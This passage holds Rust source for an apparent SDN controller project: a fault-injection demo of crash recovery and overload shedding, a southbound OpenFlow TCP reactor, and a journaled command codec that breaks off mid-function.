struct Peer {
    seen: Arc<AtomicUsize>,
}

impl App for Peer {
    fn name(&self) -> &str {
        "peer"
    }
    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).unwrap();
    }
    fn on_event(&mut self, _ctx: &AppCtx, _event: &Event) {
        self.seen.fetch_add(1, Ordering::SeqCst);
    }
}

fn pi(payload: &'static [u8]) -> PacketIn {
    PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: Bytes::from_static(payload),
    }
}

fn settle(c: &ShieldedController, cond: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(5);
    while !cond() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(1));
    }
    c.quiesce();
}

fn main() {
    // Injected panics are expected scenery here, not noise worth printing.
    std::panic::set_hook(Box::new(|_| {}));

    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    let seen = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Peer {
            seen: Arc::clone(&seen),
        }),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();

    println!("== crash reaping + restart backoff ==");
    let (template, stats) = CrasherApp::new(FaultPlan::none().panic_on_event(2));
    let template = template.with_canary_flow(DatapathId(1));
    let id = c
        .register_supervised(
            move || Box::new(template.clone_fresh()),
            &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
            RestartPolicy::UpTo {
                max_restarts: 2,
                backoff_base_secs: 4,
            },
        )
        .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"a"));
    println!(
        "after 1 event:  state={:?} flows(dpid1)={}",
        c.app_state(id).unwrap(),
        c.kernel().flow_count(DatapathId(1))
    );
    c.deliver_packet_in(DatapathId(1), pi(b"b"));
    settle(&c, || c.kernel().flow_count(DatapathId(1)) == 0);
    println!(
        "after crash:    state={:?} flows(dpid1)={} crashes={}",
        c.app_state(id).unwrap(),
        c.kernel().flow_count(DatapathId(1)),
        c.crash_count(id)
    );
    c.advance_clock(4);
    println!(
        "clock +4s:      state={:?} restarts={} (fresh on_start ran: starts={})",
        c.app_state(id).unwrap(),
        c.restart_count(id),
        stats.lock().starts
    );

    println!("\n== deputy fault containment ==");
    c.arm_faults(id, FaultPlan::none().panic_in_deputy(1));
    c.deliver_packet_in(DatapathId(1), pi(b"c"));
    println!(
        "poisoned call:  app saw `{}`; deputies alive={} respawns={}",
        stats.lock().last_call_error.clone().unwrap_or_default(),
        c.deputies_alive(),
        c.deputy_respawns()
    );
    c.arm_faults(id, FaultPlan::none().kill_deputy(1));
    c.deliver_packet_in(DatapathId(1), pi(b"d"));
    settle(&c, || c.deputy_respawns() >= 1 && c.deputies_alive() == 4);
    println!(
        "killed deputy:  deputies alive={} respawns={}",
        c.deputies_alive(),
        c.deputy_respawns()
    );

    println!("\n== overload shedding (default queue capacity, pipelined flood) ==");
    let before = seen.load(Ordering::SeqCst);
    for _ in 0..5000 {
        c.deliver_packet_in_nowait(DatapathId(1), pi(b"f"));
    }
    c.quiesce();
    let delivered = seen.load(Ordering::SeqCst) - before;
    let shed = c
        .kernel()
        .audit_records_since(0)
        .iter()
        .filter(|r| r.operation == "event_shed")
        .count();
    println!("flooded 5000 nowait events: peer saw {delivered}, shed (audited)={shed}");

    println!("\n== audit tail ==");
    let records = c.kernel().audit_records();
    for r in records
        .iter()
        .rev()
        .take(4)
        .collect::<Vec<_>>()
        .iter()
        .rev()
    {
        println!("{r}");
    }
    c.shutdown();
    println!("\nshutdown clean");
}
