//! The southbound TCP server: real switches (or CBench-style emulators)
//! speaking the OpenFlow wire codec to the shielded controller over sockets.
//!
//! # Reactor model
//!
//! One thread owns a nonblocking [`TcpListener`] and every connection, and
//! drives them with a readiness *sweep*: each [`Reactor::poll_once`] call
//! accepts pending connections, then for every connection flushes queued
//! egress bytes, reads until `WouldBlock`, decodes complete frames from the
//! reusable stream buffer, and finally runs the liveness/timeout pass. The
//! sweep is std-only (the offline build has no `mio`/`epoll` binding);
//! nonblocking sockets plus a short idle sleep approximate readiness
//! notification with bounded latency, and the explicit `poll_once(tick)`
//! entry point keeps the whole state machine deterministic under test.
//!
//! # Per-connection state machine
//!
//! ```text
//! accept ──HELLO sent──▶ AwaitHello ──peer HELLO──▶ AwaitFeatures
//!     (FEATURES_REQUEST sent)  AwaitFeatures ──FEATURES_REPLY(dpid)──▶ Ready
//! ```
//!
//! `Ready` requires the claimed datapath to exist in the [`Network`]
//! topology and to be unclaimed by another live connection; the reactor
//! then registers a [`WireEgress`] so every mediated flow-mod/packet-out
//! for that datapath is mirrored onto the socket. Steady state is
//! PACKET_IN upstream (batched into the dispatcher's vectored delivery)
//! and FLOW_MOD/PACKET_OUT/ECHO downstream.
//!
//! # Backpressure and liveness
//!
//! Egress frames queue in a bounded [`WriteRing`]; when a slow peer fills
//! it, whole frames are shed and counted — the audit ring's counted-drop
//! discipline — so a stalled switch can never wedge the reactor or the
//! deputy threads. Liveness: after `echo_interval` ticks of silence the
//! reactor sends an ECHO_REQUEST with an opaque payload; a peer that fails
//! to echo it (xid and payload verbatim) within `echo_timeout` ticks is
//! declared dead, its egress deregistered, and its flows reaped through the
//! network's existing delete path.

use std::collections::BTreeSet;
use std::io::{self, ErrorKind};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

use bytes::Bytes;
use parking_lot::Mutex;
use sdnshield_netsim::network::{Network, WireEgress};
use sdnshield_openflow::messages::{FlowMod, OfBody, PacketIn, PacketOut};
use sdnshield_openflow::southbound::{StreamDecoder, WriteRing};
use sdnshield_openflow::types::{DatapathId, Xid};
use sdnshield_openflow::wire::msg_type;
use sdnshield_openflow::FlowMatch;

use crate::isolation::ShieldedController;

/// Opaque payload carried by reactor-initiated ECHO_REQUESTs. The reply
/// must return it verbatim; anything else fails the liveness check.
pub const LIVENESS_PAYLOAD: &[u8] = b"sdnshield-liveness\x00\xa5";

/// Tuning knobs for the southbound reactor.
#[derive(Debug, Clone)]
pub struct SouthboundConfig {
    /// Per-connection egress ring capacity in bytes. Frames that do not fit
    /// are shed whole and counted.
    pub write_ring_capacity: usize,
    /// Ticks of inbound silence before the reactor probes with an
    /// ECHO_REQUEST.
    pub echo_interval: u64,
    /// Ticks after a probe (or after accept, for the handshake) without the
    /// expected reply before the connection is declared dead.
    pub echo_timeout: u64,
    /// Max packet-ins accumulated before a vectored dispatch into the
    /// controller (mirrors the benchmark drivers' chunked delivery).
    pub batch_max: usize,
}

impl Default for SouthboundConfig {
    fn default() -> Self {
        SouthboundConfig {
            write_ring_capacity: 1 << 20,
            echo_interval: 5_000,
            echo_timeout: 50_000,
            batch_max: 512,
        }
    }
}

/// Monotonic counters shared between the reactor and its handle.
#[derive(Default)]
struct StatsInner {
    accepted: AtomicU64,
    handshakes: AtomicU64,
    closed: AtomicU64,
    echo_timeouts: AtomicU64,
    frames_rx: AtomicU64,
    packet_ins: AtomicU64,
    flow_mods_tx: AtomicU64,
    packet_outs_tx: AtomicU64,
    unknown_skipped: AtomicU64,
    shed: AtomicU64,
    protocol_errors: AtomicU64,
}

/// A point-in-time copy of the reactor's counters.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SouthboundStats {
    /// Connections accepted.
    pub accepted: u64,
    /// Connections that completed the HELLO/FEATURES handshake.
    pub handshakes: u64,
    /// Connections closed (any reason).
    pub closed: u64,
    /// Connections killed by the echo liveness timeout.
    pub echo_timeouts: u64,
    /// Complete frames decoded across all connections.
    pub frames_rx: u64,
    /// PACKET_IN frames forwarded into the mediation pipeline.
    pub packet_ins: u64,
    /// FLOW_MOD frames queued onto the wire.
    pub flow_mods_tx: u64,
    /// PACKET_OUT frames queued onto the wire.
    pub packet_outs_tx: u64,
    /// Unknown-type frames skipped via their length header.
    pub unknown_skipped: u64,
    /// Egress frames shed because a connection's write ring was full.
    pub shed: u64,
    /// Connections killed by an unrecoverable stream error.
    pub protocol_errors: u64,
}

impl StatsInner {
    fn snapshot(&self) -> SouthboundStats {
        SouthboundStats {
            accepted: self.accepted.load(Ordering::Relaxed),
            handshakes: self.handshakes.load(Ordering::Relaxed),
            closed: self.closed.load(Ordering::Relaxed),
            echo_timeouts: self.echo_timeouts.load(Ordering::Relaxed),
            frames_rx: self.frames_rx.load(Ordering::Relaxed),
            packet_ins: self.packet_ins.load(Ordering::Relaxed),
            flow_mods_tx: self.flow_mods_tx.load(Ordering::Relaxed),
            packet_outs_tx: self.packet_outs_tx.load(Ordering::Relaxed),
            unknown_skipped: self.unknown_skipped.load(Ordering::Relaxed),
            shed: self.shed.load(Ordering::Relaxed),
            protocol_errors: self.protocol_errors.load(Ordering::Relaxed),
        }
    }
}

/// The egress half of one wire-attached switch: mediated controller→switch
/// messages are encoded into the connection's bounded write ring from
/// whichever deputy thread executed the call; the reactor thread flushes.
struct ConnEgress {
    ring: Arc<Mutex<WriteRing>>,
    xid: AtomicU32,
    stats: Arc<StatsInner>,
}

impl ConnEgress {
    fn next_xid(&self) -> Xid {
        Xid(self.xid.fetch_add(1, Ordering::Relaxed))
    }
}

impl WireEgress for ConnEgress {
    fn flow_mod(&self, fm: &FlowMod) {
        let body = OfBody::FlowMod(fm.clone());
        if self.ring.lock().push_body(self.next_xid(), &body) {
            self.stats.flow_mods_tx.fetch_add(1, Ordering::Relaxed);
        }
    }

    fn packet_out(&self, po: &PacketOut) {
        let body = OfBody::PacketOut(po.clone());
        if self.ring.lock().push_body(self.next_xid(), &body) {
            self.stats.packet_outs_tx.fetch_add(1, Ordering::Relaxed);
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    AwaitHello,
    AwaitFeatures,
    Ready,
}

struct Conn {
    stream: TcpStream,
    decoder: StreamDecoder,
    ring: Arc<Mutex<WriteRing>>,
    phase: Phase,
    dpid: Option<DatapathId>,
    opened_tick: u64,
    last_rx_tick: u64,
    /// Outstanding reactor-initiated echo probe: (xid, tick sent).
    outstanding_echo: Option<(Xid, u64)>,
    /// Xid counter for reactor-initiated frames. Egress xids live in the
    /// upper half of the space (see [`Reactor::service_conn`]'s handshake
    /// arm) so the two streams cannot collide.
    next_xid: u32,
    /// Set to the close reason when the connection must die; reaped at the
    /// end of the sweep.
    dead: Option<&'static str>,
    /// Last decoder unknown-skip count folded into the shared stats.
    reported_unknown: u64,
    /// Last ring shed count folded into the shared stats.
    reported_shed: u64,
}

impl Conn {
    fn next_xid(&mut self) -> Xid {
        let x = Xid(self.next_xid);
        self.next_xid = self.next_xid.wrapping_add(1);
        x
    }
}

/// The southbound reactor: listener + connections + sweep loop.
///
/// [`spawn_southbound`] runs it on a dedicated thread; tests construct one
/// directly with [`Reactor::bind`] and drive [`Reactor::poll_once`] with an
/// explicit tick for deterministic liveness-timeout coverage.
pub struct Reactor {
    listener: TcpListener,
    local_addr: SocketAddr,
    controller: Arc<ShieldedController>,
    config: SouthboundConfig,
    conns: Vec<Conn>,
    claimed: BTreeSet<DatapathId>,
    stats: Arc<StatsInner>,
    batch: Vec<(DatapathId, PacketIn)>,
}

impl Reactor {
    /// Binds a nonblocking listener on `addr` (use port 0 for an ephemeral
    /// port; read it back with [`Reactor::local_addr`]).
    ///
    /// # Errors
    ///
    /// Propagates bind/configuration failures.
    pub fn bind(
        addr: &str,
        controller: Arc<ShieldedController>,
        config: SouthboundConfig,
    ) -> io::Result<Self> {
        let listener = TcpListener::bind(addr)?;
        listener.set_nonblocking(true)?;
        let local_addr = listener.local_addr()?;
        Ok(Reactor {
            listener,
            local_addr,
            controller,
            config,
            conns: Vec::new(),
            claimed: BTreeSet::new(),
            stats: Arc::new(StatsInner::default()),
            batch: Vec::new(),
        })
    }

    /// The bound listen address.
    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// Live connection count (any phase).
    pub fn connections(&self) -> usize {
        self.conns.len()
    }

    /// A copy of the reactor's counters.
    pub fn stats(&self) -> SouthboundStats {
        self.stats.snapshot()
    }

    fn network<R>(&self, f: impl FnOnce(&Network) -> R) -> R {
        self.controller.kernel().with_network(f)
    }

    /// One readiness sweep at virtual time `tick`: accept, per-connection
    /// flush/read/decode, batched packet-in dispatch, liveness pass, reap.
    /// Returns a progress count (frames + connections handled); `0` means
    /// the sweep found nothing to do and the caller may sleep briefly.
    pub fn poll_once(&mut self, tick: u64) -> usize {
        let mut progress = 0usize;
        loop {
            match self.listener.accept() {
                Ok((stream, _peer)) => {
                    progress += 1;
                    self.accept_conn(stream, tick);
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(_) => break,
            }
        }
        for i in 0..self.conns.len() {
            progress += Self::service_conn(
                &mut self.conns[i],
                tick,
                &self.controller,
                &self.config,
                &mut self.claimed,
                &self.stats,
                &mut self.batch,
            );
        }
        if !self.batch.is_empty() {
            let batch = std::mem::take(&mut self.batch);
            self.controller.deliver_packet_in_batch(batch);
        }
        for i in 0..self.conns.len() {
            let conn = &mut self.conns[i];
            if conn.dead.is_some() {
                continue;
            }
            Self::liveness_pass(conn, tick, &self.config, &self.stats);
            Self::flush_conn(conn, &self.stats);
        }
        let mut i = 0;
        while i < self.conns.len() {
            if self.conns[i].dead.is_some() {
                let conn = self.conns.swap_remove(i);
                self.close_conn(conn);
                progress += 1;
            } else {
                i += 1;
            }
        }
        progress
    }

    fn accept_conn(&mut self, stream: TcpStream, tick: u64) {
        if stream.set_nonblocking(true).is_err() {
            return;
        }
        let _ = stream.set_nodelay(true);
        self.stats.accepted.fetch_add(1, Ordering::Relaxed);
        let ring = Arc::new(Mutex::new(WriteRing::new(self.config.write_ring_capacity)));
        let mut conn = Conn {
            stream,
            decoder: StreamDecoder::new(),
            ring,
            phase: Phase::AwaitHello,
            dpid: None,
            opened_tick: tick,
            last_rx_tick: tick,
            outstanding_echo: None,
            next_xid: 1,
            dead: None,
            reported_unknown: 0,
            reported_shed: 0,
        };
        let xid = conn.next_xid();
        conn.ring.lock().push_body(xid, &OfBody::Hello);
        Self::flush_conn(&mut conn, &self.stats);
        self.conns.push(conn);
    }

    /// Flush + read + decode for one connection. Associated function (not a
    /// method) so the caller can hold disjoint borrows of the reactor's
    /// other fields.
    #[allow(clippy::too_many_lines)]
    fn service_conn(
        conn: &mut Conn,
        tick: u64,
        controller: &Arc<ShieldedController>,
        config: &SouthboundConfig,
        claimed: &mut BTreeSet<DatapathId>,
        stats: &Arc<StatsInner>,
        batch: &mut Vec<(DatapathId, PacketIn)>,
    ) -> usize {
        if conn.dead.is_some() {
            return 0;
        }
        Self::flush_conn(conn, stats);
        let mut progress = 0usize;
        'io: loop {
            loop {
                // Split borrows: frame views borrow the decoder while the
                // handlers touch the ring and phase fields.
                let Conn {
                    decoder,
                    ring,
                    phase,
                    dpid,
                    last_rx_tick,
                    outstanding_echo,
                    dead,
                    next_xid,
                    ..
                } = conn;
                let frame = match decoder.next_frame() {
                    Ok(Some(f)) => f,
                    Ok(None) => break,
                    Err(_) => {
                        stats.protocol_errors.fetch_add(1, Ordering::Relaxed);
                        *dead = Some("unrecoverable stream error");
                        break 'io;
                    }
                };
                progress += 1;
                *last_rx_tick = tick;
                stats.frames_rx.fetch_add(1, Ordering::Relaxed);
                match frame.ty {
                    msg_type::HELLO if *phase == Phase::AwaitHello => {
                        let x = Xid(*next_xid);
                        *next_xid = next_xid.wrapping_add(1);
                        ring.lock().push_body(x, &OfBody::FeaturesRequest);
                        *phase = Phase::AwaitFeatures;
                    }
                    msg_type::FEATURES_REPLY => {
                        if *phase != Phase::AwaitFeatures {
                            continue;
                        }
                        let claimed_dpid = match frame.message() {
                            Ok(m) => match m.body {
                                OfBody::FeaturesReply { datapath_id, .. } => datapath_id,
                                _ => unreachable!("type/body mismatch"),
                            },
                            Err(_) => {
                                stats.protocol_errors.fetch_add(1, Ordering::Relaxed);
                                *dead = Some("malformed features reply");
                                break 'io;
                            }
                        };
                        let known = controller
                            .kernel()
                            .with_network(|n| n.has_switch(claimed_dpid));
                        if !known || !claimed.insert(claimed_dpid) {
                            *dead = Some("unknown or already-claimed datapath");
                            break 'io;
                        }
                        let egress = Arc::new(ConnEgress {
                            ring: Arc::clone(ring),
                            // Egress xids start in the upper half of the
                            // space; reactor-initiated xids count up from 1.
                            xid: AtomicU32::new(0x8000_0000),
                            stats: Arc::clone(stats),
                        });
                        controller
                            .kernel()
                            .with_network(|n| n.register_wire_egress(claimed_dpid, egress));
                        *dpid = Some(claimed_dpid);
                        *phase = Phase::Ready;
                        stats.handshakes.fetch_add(1, Ordering::Relaxed);
                    }
                    msg_type::ECHO_REQUEST => {
                        // Round-trip the sender's xid and payload verbatim.
                        ring.lock().push_echo_reply(frame.xid, frame.echo_payload());
                    }
                    msg_type::ECHO_REPLY => {
                        if let Some((xid, _)) = *outstanding_echo {
                            if frame.xid == xid && frame.echo_payload() == LIVENESS_PAYLOAD {
                                *outstanding_echo = None;
                            }
                        }
                    }
                    msg_type::PACKET_IN => {
                        let Some(d) = *dpid else { continue };
                        match frame.packet_in() {
                            Ok(view) => {
                                stats.packet_ins.fetch_add(1, Ordering::Relaxed);
                                batch.push((d, view.to_packet_in()));
                            }
                            Err(_) => {
                                stats.protocol_errors.fetch_add(1, Ordering::Relaxed);
                                *dead = Some("malformed packet-in");
                                break 'io;
                            }
                        }
                    }
                    // Switch-originated messages the mediation layer has no
                    // consumer for yet (barriers, stats, errors): tolerated.
                    _ => {}
                }
                if batch.len() >= config.batch_max {
                    controller.deliver_packet_in_batch(std::mem::take(batch));
                }
            }
            match conn.decoder.read_from(&mut conn.stream) {
                Ok(0) => {
                    conn.dead = Some("peer closed");
                    break;
                }
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => {
                    conn.dead = Some("read error");
                    break;
                }
            }
        }
        let unknown = conn.decoder.unknown_skipped();
        stats
            .unknown_skipped
            .fetch_add(unknown - conn.reported_unknown, Ordering::Relaxed);
        conn.reported_unknown = unknown;
        progress
    }

    fn liveness_pass(conn: &mut Conn, tick: u64, config: &SouthboundConfig, stats: &StatsInner) {
        if let Some((_, sent)) = conn.outstanding_echo {
            if tick.saturating_sub(sent) >= config.echo_timeout {
                stats.echo_timeouts.fetch_add(1, Ordering::Relaxed);
                conn.dead = Some("echo liveness timeout");
            }
            return;
        }
        match conn.phase {
            Phase::Ready => {
                if tick.saturating_sub(conn.last_rx_tick) >= config.echo_interval {
                    let xid = conn.next_xid();
                    conn.ring.lock().push_body(
                        xid,
                        &OfBody::EchoRequest(Bytes::from_static(LIVENESS_PAYLOAD)),
                    );
                    conn.outstanding_echo = Some((xid, tick));
                }
            }
            Phase::AwaitHello | Phase::AwaitFeatures => {
                if tick.saturating_sub(conn.opened_tick) >= config.echo_timeout {
                    conn.dead = Some("handshake timeout");
                }
            }
        }
    }

    fn flush_conn(conn: &mut Conn, stats: &StatsInner) {
        let mut ring = conn.ring.lock();
        while !ring.is_empty() {
            match ring.flush(&mut conn.stream) {
                Ok(0) => break,
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => {
                    conn.dead = Some("write error");
                    break;
                }
            }
        }
        let shed = ring.shed();
        stats
            .shed
            .fetch_add(shed - conn.reported_shed, Ordering::Relaxed);
        conn.reported_shed = shed;
    }

    /// Tears one connection down: deregister its wire egress, reap the
    /// flows it installed through the network's existing delete path, close
    /// the socket.
    fn close_conn(&mut self, conn: Conn) {
        self.stats.closed.fetch_add(1, Ordering::Relaxed);
        if let Some(dpid) = conn.dpid {
            self.claimed.remove(&dpid);
            self.network(|n| {
                n.deregister_wire_egress(dpid);
                // Reap after deregistration so the delete is not mirrored
                // back onto the (dead) wire.
                let _ = n.apply_flow_mod(dpid, &FlowMod::delete(FlowMatch::any()));
            });
        }
        let _ = conn.stream.shutdown(Shutdown::Both);
    }

    /// Closes every connection (server shutdown).
    pub fn close_all(&mut self) {
        while let Some(conn) = self.conns.pop() {
            self.close_conn(conn);
        }
    }
}

impl Drop for Reactor {
    fn drop(&mut self) {
        self.close_all();
    }
}

/// Handle to a running southbound server thread. Dropping it (or calling
/// [`SouthboundHandle::shutdown`]) stops the reactor and closes every
/// connection.
pub struct SouthboundHandle {
    local_addr: SocketAddr,
    running: Arc<AtomicBool>,
    stats: Arc<StatsInner>,
    thread: Option<JoinHandle<()>>,
}

impl SouthboundHandle {
    /// The bound listen address.
    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// A copy of the reactor's counters.
    pub fn stats(&self) -> SouthboundStats {
        self.stats.snapshot()
    }

    /// Stops the reactor thread and closes all connections.
    pub fn shutdown(mut self) {
        self.stop();
    }

    fn stop(&mut self) {
        self.running.store(false, Ordering::Release);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

impl Drop for SouthboundHandle {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Starts the southbound server on a dedicated reactor thread.
///
/// The thread sweeps connections continuously, advancing the virtual tick
/// once per sweep and sleeping briefly only when a sweep makes no progress
/// (so liveness ticks keep advancing on an idle server).
///
/// # Errors
///
/// Propagates listener bind failures.
pub fn spawn_southbound(
    controller: Arc<ShieldedController>,
    addr: &str,
    config: SouthboundConfig,
) -> io::Result<SouthboundHandle> {
    let mut reactor = Reactor::bind(addr, controller, config)?;
    let local_addr = reactor.local_addr();
    let stats = Arc::clone(&reactor.stats);
    let running = Arc::new(AtomicBool::new(true));
    let flag = Arc::clone(&running);
    let thread = thread::Builder::new()
        .name("southbound-reactor".into())
        .spawn(move || {
            let mut tick = 0u64;
            while flag.load(Ordering::Acquire) {
                let progress = reactor.poll_once(tick);
                tick += 1;
                if progress == 0 {
                    thread::sleep(Duration::from_micros(200));
                }
            }
            reactor.close_all();
        })?;
    Ok(SouthboundHandle {
        local_addr,
        running,
        stats,
        thread: Some(thread),
    })
}
