//! The deterministic command layer: every state-changing kernel entry point
//! reified as a serializable [`Command`], plus the [`KernelSnapshot`] record
//! a kernel's whole mutable state round-trips through.
//!
//! The kernel applies commands through a single seam
//! ([`crate::kernel::Kernel::submit`]) and appends them to a
//! [`crate::journal::Journal`]; replaying the journal over a snapshot
//! reconstructs the kernel bit-for-bit (DESIGN.md §12 "Durability, recovery
//! & failover"). Both the command and the snapshot carry a self-consistent
//! byte codec built from the `sdnshield-openflow` snapshot primitives, so
//! journals and snapshots survive a process crash on disk.
//!
//! Determinism contract: applying the same command sequence to the same
//! starting state yields the same ending state. Nothing here reads wall
//! clocks or randomness — time only moves via [`Command::AdvanceClock`] on
//! the virtual clock, and every kernel decision (permission checks included)
//! is a pure function of kernel state plus the command.

use std::fmt;

use bytes::{Buf, BufMut, Bytes, BytesMut};

use sdnshield_core::api::{ApiCall, ApiCallKind, AppId, EventKind};
use sdnshield_core::engine::TrackerSnapshot;
use sdnshield_openflow::flow_table::FlowEntry;
use sdnshield_openflow::messages::{PacketOut, PortStats};
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::snapshot as codec;
use sdnshield_openflow::types::{DatapathId, EthAddr, Ipv4, Priority};
use sdnshield_openflow::wire::WireError;

use crate::api::{ApiError, ApiResponse, FlowOp};
use crate::hostsys::HostSnapshot;

/// A serializable kernel mutation: the single vocabulary every
/// state-changing entry point is expressed in before it is applied and
/// journaled. Read-only calls ride [`Command::Call`] too when submitted
/// through the deputy path — journaling them is harmless (they mutate
/// nothing on replay) and keeps the seam uniform.
#[derive(Debug, Clone, PartialEq)]
pub enum Command {
    /// Register an app under its reconciled manifest (carried as canonical
    /// manifest text so replay recompiles the identical engine).
    RegisterApp {
        /// The app identity being registered.
        app: AppId,
        /// The app's name (diagnostics, audit).
        name: String,
        /// Canonical manifest text (`PermissionSet` `Display` form).
        manifest: String,
    },
    /// Reap every trace of an app (crash reaping / deregistration).
    DeregisterApp {
        /// The app being reaped.
        app: AppId,
    },
    /// One mediated API call (the [`crate::kernel::Kernel::execute`] seam).
    Call(ApiCall),
    /// An atomic flow transaction.
    Transaction {
        /// The calling app.
        app: AppId,
        /// The operations, applied all-or-nothing.
        ops: Vec<FlowOp>,
    },
    /// A batched group of flow operations (atomic, audited as `batch`).
    Batch {
        /// The calling app.
        app: AppId,
        /// The operations, applied all-or-nothing.
        ops: Vec<FlowOp>,
    },
    /// A best-effort group of packet-outs.
    PacketOuts {
        /// The calling app.
        app: AppId,
        /// The packet-outs in emission order.
        outs: Vec<(DatapathId, PacketOut)>,
    },
    /// A host-network send carrying real payload bytes.
    HostSend {
        /// The sending app.
        app: AppId,
        /// The connection handle (`ConnId` inner value).
        conn: u64,
        /// The payload.
        data: Bytes,
    },
    /// A custom-topic subscription.
    SubscribeTopic {
        /// The subscribing app.
        app: AppId,
        /// The topic.
        topic: String,
    },
    /// Advance the virtual clock (flow expiry is a deterministic function
    /// of clock position, so time itself is a journaled command).
    AdvanceClock {
        /// Seconds to advance.
        secs: u64,
    },
    /// Fail the link between two switches.
    FailLink {
        /// One endpoint.
        a: DatapathId,
        /// The other endpoint.
        b: DatapathId,
    },
    /// Inject a data-plane frame from a host NIC.
    InjectHostFrame {
        /// The frame.
        frame: EthernetFrame,
    },
    /// Record packet-in payload provenance grants (the tracker mutation the
    /// event fan-out performs on behalf of `read_payload` subscribers).
    RecordPktIns {
        /// `(app, payload)` pairs granted payload access.
        grants: Vec<(AppId, Bytes)>,
    },
}

impl Command {
    /// A short operation name for logs and journal inspection.
    pub fn name(&self) -> &'static str {
        match self {
            Command::RegisterApp { .. } => "register_app",
            Command::DeregisterApp { .. } => "deregister_app",
            Command::Call(call) => call.kind.name(),
            Command::Transaction { .. } => "transaction",
            Command::Batch { .. } => "batch",
            Command::PacketOuts { .. } => "packet_outs",
            Command::HostSend { .. } => "host_send",
            Command::SubscribeTopic { .. } => "subscribe_topic",
            Command::AdvanceClock { .. } => "advance_clock",
            Command::FailLink { .. } => "fail_link",
            Command::InjectHostFrame { .. } => "inject_host_frame",
            Command::RecordPktIns { .. } => "record_pkt_ins",
        }
    }
}

/// The typed result of submitting a [`Command`]: each entry-point family
/// keeps its native reply shape, so the journaled wrappers can hand back
/// exactly what the unjournaled path would have.
#[derive(Debug, Clone, PartialEq)]
pub enum CommandOutcome {
    /// An API-call style reply.
    Api(Result<ApiResponse, ApiError>),
    /// A sent-count reply (packet-out groups).
    Count(Result<usize, ApiError>),
    /// A bare acknowledgment.
    Ack(Result<(), ApiError>),
}

impl CommandOutcome {
    /// The API-call reply, for commands submitted through call-shaped
    /// wrappers.
    ///
    /// # Panics
    ///
    /// Panics when the outcome is not [`CommandOutcome::Api`] — the wrappers
    /// and [`crate::kernel::Kernel::submit`] keep command and outcome shapes
    /// in lockstep.
    pub fn into_api(self) -> Result<ApiResponse, ApiError> {
        match self {
            CommandOutcome::Api(r) => r,
            other => unreachable!("call-shaped command yielded {other:?}"),
        }
    }

    /// The sent-count reply.
    ///
    /// # Panics
    ///
    /// Panics when the outcome is not [`CommandOutcome::Count`].
    pub fn into_count(self) -> Result<usize, ApiError> {
        match self {
            CommandOutcome::Count(r) => r,
            other => unreachable!("count-shaped command yielded {other:?}"),
        }
    }

    /// The bare acknowledgment.
    ///
    /// # Panics
    ///
    /// Panics when the outcome is not [`CommandOutcome::Ack`].
    pub fn into_ack(self) -> Result<(), ApiError> {
        match self {
            CommandOutcome::Ack(r) => r,
            other => unreachable!("ack-shaped command yielded {other:?}"),
        }
    }

    /// The outcome a sealed kernel returns for `cmd` without applying it:
    /// the error shape matches what the command's wrapper expects.
    pub(crate) fn sealed_for(cmd: &Command) -> CommandOutcome {
        match cmd {
            Command::Call(_) | Command::Transaction { .. } | Command::Batch { .. } => {
                CommandOutcome::Api(Err(ApiError::Shutdown))
            }
            Command::PacketOuts { .. } => CommandOutcome::Count(Err(ApiError::Shutdown)),
            _ => CommandOutcome::Ack(Err(ApiError::Shutdown)),
        }
    }
}

/// A decoding failure: the bytes do not form a valid command or snapshot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodeError {
    reason: String,
}

impl DecodeError {
    pub(crate) fn new(reason: impl Into<String>) -> Self {
        DecodeError {
            reason: reason.into(),
        }
    }
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "malformed record: {}", self.reason)
    }
}

impl std::error::Error for DecodeError {}

impl From<WireError> for DecodeError {
    fn from(e: WireError) -> Self {
        DecodeError::new(e.to_string())
    }
}

fn need(b: &Bytes, n: usize) -> Result<(), DecodeError> {
    if b.len() < n {
        return Err(DecodeError::new("truncated record"));
    }
    Ok(())
}

fn put_event_kind(kind: EventKind, out: &mut BytesMut) {
    out.put_u8(match kind {
        EventKind::PacketIn => 0,
        EventKind::Flow => 1,
        EventKind::Topology => 2,
        EventKind::Error => 3,
    });
}

fn get_event_kind(b: &mut Bytes) -> Result<EventKind, DecodeError> {
    need(b, 1)?;
    Ok(match b.get_u8() {
        0 => EventKind::PacketIn,
        1 => EventKind::Flow,
        2 => EventKind::Topology,
        3 => EventKind::Error,
        _ => return Err(DecodeError::new("bad event kind")),
    })
}

fn put_api_call(call: &ApiCall, out: &mut BytesMut) {
    out.put_u16(call.app.0);
    match &call.kind {
        ApiCallKind::ReadFlowTable { dpid, query } => {
            out.put_u8(0);
            out.put_u64(dpid.0);
            codec::put_flow_match(query, out);
        }
        ApiCallKind::InsertFlow { dpid, flow_mod } => {
            out.put_u8(1);
            out.put_u64(dpid.0);
